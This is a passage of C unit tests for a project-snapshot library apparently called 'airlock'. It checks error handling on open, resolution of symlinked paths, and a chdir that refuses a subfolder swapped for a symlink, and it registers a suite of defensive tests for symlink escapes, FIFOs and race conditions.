	ck_assert_int_eq(airlock_project_open(&p, missing, NULL), AIRLOCK_ENOTFOUND);
	ck_assert_ptr_null(p);
	ck_assert_ptr_nonnull(strstr(airlock_error_last(), "does not exist"));
	t_write(tmp, "file", "x");
	ck_assert_int_eq(airlock_project_open(&p, file, NULL), AIRLOCK_EINVALID);
	ck_assert_int_eq(airlock_project_open(&p, tmp, &bad), AIRLOCK_EINVALID);
	ck_assert_int_eq(airlock_project_open(&p, "", NULL), AIRLOCK_EINVALID);
	ck_assert_int_eq(airlock_project_open(NULL, tmp, NULL), AIRLOCK_EINVALID);
	ck_assert_ptr_null(strchr(airlock_error_last(), '\n'));
	airlock_project_free(NULL);
	free(missing);
	free(file);
}
END_TEST

/* The identity is the directory opened, resolved: a symlink to a project
 * and the project itself are one project. */
START_TEST(canonical_path)
{
	char *real = t_join(tmp, "real"), *alias = t_join(tmp, "alias");
	char *resolved = realpath(tmp, NULL), *want = t_join(resolved, "real");
	airlock_project *p;

	t_mkdirs(tmp, "real");
	ck_assert_int_eq(symlink("real", alias), 0);
	p = t_open(alias);
	ck_assert_str_eq(airlock_project_path(p), want);
	airlock_project_free(p);
	free(real);
	free(alias);
	free(resolved);
	free(want);
}
END_TEST

/* Issue 17: the folder a caller named is reached again from the
 * descriptor, beneath the project, never through a link swapped in; the
 * bytes read are what the caller can hand on. */
START_TEST(chdir_reaches_the_folder_judged)
{
	static const char mcp[] = "{\"mcpServers\":{}}";
	char *proj = t_join(tmp, "proj"), *sub = t_join(proj, "src/lib"), *real, *want, *here;
	char *other = t_join(tmp, "other"), *moved = t_join(proj, "src/lib.moved");
	int cwd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	airlock_options opts = AIRLOCK_OPTIONS_INIT;
	airlock_project *p = NULL;
	const char *data;
	size_t len;

	t_write(proj, ".mcp.json", mcp);
	t_write(proj, "src/lib/x.c", "int x;\n");
	t_mkdirs(tmp, "other");
	real = realpath(proj, NULL);
	opts.flags = AIRLOCK_OPT_REPO_ROOT;
	ck_assert_int_eq(airlock_project_open(&p, sub, &opts), 0);
	ck_assert_str_eq(airlock_project_path(p), real);
	ck_assert_str_eq(airlock_project_subdir(p), "src/lib");
	data = airlock_entry_data(t_entry(p, ".mcp.json"), &len);
	ck_assert_uint_eq(len, strlen(mcp));
	ck_assert_int_eq(memcmp(data, mcp, len), 0);

	ck_assert_int_eq(airlock_project_chdir(p), 0);
	here = getcwd(NULL, 0);
	want = t_join(real, "src/lib");
	ck_assert_str_eq(here, want);
	free(here);
	ck_assert_int_eq(fchdir(cwd), 0);

	/* the subfolder swapped for a link out: not followed */
	ck_assert_int_eq(rename(sub, moved), 0);
	ck_assert_int_eq(symlink(other, sub), 0);
	ck_assert_int_eq(airlock_project_chdir(p), AIRLOCK_ENOTFOUND);
	here = getcwd(NULL, 0);
	ck_assert_ptr_null(strstr(here, "other"));
	free(here);
	airlock_project_free(p);

	/* the project's own folder: no subfolder */
	p = t_open(proj);
	ck_assert_str_eq(airlock_project_subdir(p), "");
	ck_assert_int_eq(airlock_project_chdir(p), 0);
	here = getcwd(NULL, 0);
	ck_assert_str_eq(here, real);
	free(here);
	ck_assert_int_eq(fchdir(cwd), 0);
	ck_assert_int_eq(airlock_project_chdir(NULL), AIRLOCK_EINVALID);
	airlock_project_free(p);
	close(cwd);
	free(want);
	free(real);
	free(moved);
	free(other);
	free(sub);
	free(proj);
}
END_TEST

Suite *snapshot_suite(void)
{
	Suite *s = suite_create("snapshot");
	TCase *fixtures = tcase_create("fixtures");
	TCase *tc = tcase_create("walk");
	TCase *neg = tcase_create("negative");
	/* 20 000 nested folders made and removed: bound by the disk, not the
	 * walk (it stops at depth 32); slow on a loaded machine */
	TCase *deep = tcase_create("deep");

	tcase_add_test(fixtures, fixture_surfaces);
	tcase_add_test(fixtures, every_row_has_a_fixture);
	tcase_add_test(fixtures, fallback_walk_matches);
	tcase_add_checked_fixture(fixtures, setup, teardown);
	suite_add_tcase(s, fixtures);

	tcase_add_checked_fixture(tc, setup, teardown);
	/* walk_progress_and_cancel writes 12 288 files: seconds on a busy machine */
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, digest_tracks_executable_only);
	tcase_add_test(tc, digest_binds_paths);
	tcase_add_test(tc, vendored_and_vcs_trees_skipped);
	tcase_add_test(tc, open_errors);
	tcase_add_test(tc, options_init);
	tcase_add_test(tc, walk_progress_and_cancel);
	tcase_add_test(tc, canonical_path);
	suite_add_tcase(s, tc);

	tcase_add_checked_fixture(deep, setup, teardown);
	tcase_set_timeout(deep, 300);
	tcase_add_test(deep, twenty_thousand_nested_directories);
	suite_add_tcase(s, deep);
	tcase_add_checked_fixture(neg, setup, teardown);
	tcase_set_timeout(neg, 60);
	tcase_add_test(neg, symlink_to_file_outside);
	tcase_add_test(neg, symlink_inside_is_read_as_its_target);
	tcase_add_test(neg, symlinked_claude_directory);
	tcase_add_test(neg, unrelated_symlinked_directory_not_descended);
	tcase_add_test(neg, fifo_does_not_block);
	tcase_add_test(neg, socket_is_not_regular);
	tcase_add_test(neg, huge_sparse_file_not_read);
	tcase_add_test(neg, size_cap_is_exact);
	tcase_add_test(neg, total_size_cap);
	tcase_add_test(neg, invalid_utf8_name);
	tcase_add_test(neg, group_writable_executable);
	tcase_add_test(neg, path_length_limit);
	tcase_add_test(neg, surface_file_count_limit);
	tcase_add_test(neg, race_swapped_for_symlink);
	tcase_add_test(neg, race_removed);
	tcase_add_test(neg, race_swapped_for_fifo);
	tcase_add_test(neg, race_swapped_content_is_what_is_hashed);
	tcase_add_test(neg, open_beneath_refuses_escapes);
	tcase_add_test(neg, chdir_reaches_the_folder_judged);
	suite_add_tcase(s, neg);
	return s;
}
